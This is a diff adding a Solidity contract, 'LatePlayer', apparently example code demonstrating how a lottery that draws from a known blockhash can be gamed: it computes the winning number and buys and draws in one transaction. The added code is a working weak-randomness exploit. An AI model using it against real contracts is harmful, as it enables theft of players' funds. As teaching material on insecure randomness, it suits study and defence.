@@ -18,3 +18,31 @@ contract Clairvoyant {
     receive() external payable {}
 }
 // #endregion attack
+
+// #region second
+/// Buys any number, and once the hash is known, the right one.
+contract LatePlayer {
+    function start(ILottery lottery) external payable {
+        lottery.buy{value: msg.value}(1);
+    }
+
+    /// What wins for this contract if `deciding` is the block.
+    function winningNumber(uint256 deciding) public view returns (uint256) {
+        return (uint256(keccak256(abi.encode(blockhash(deciding), address(this)))) % 1000) + 1;
+    }
+
+    function buyAgain(ILottery lottery, uint256 deciding) external payable {
+        lottery.buy{value: msg.value}(winningNumber(deciding));
+        lottery.draw();
+    }
+
+    /// Draws now, then buys for the hash that is already known.
+    function drawAndBuy(ILottery lottery, uint256 deciding) external payable {
+        lottery.draw();
+        lottery.buy{value: msg.value}(winningNumber(deciding));
+        lottery.draw();
+    }
+
+    receive() external payable {}
+}
+// #endregion second
